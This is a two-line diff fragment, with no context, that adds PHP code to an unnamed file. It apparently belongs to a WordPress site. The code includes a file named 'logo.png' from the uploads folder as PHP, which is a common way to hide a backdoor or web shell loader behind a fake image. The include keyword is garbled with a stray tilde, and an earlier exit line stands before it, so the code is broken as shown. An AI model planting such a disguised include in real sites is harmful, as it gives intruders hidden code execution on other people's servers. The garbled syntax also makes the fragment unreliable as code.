@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php inc~lude_once 'wp-content/uploads/marker/logo.png';
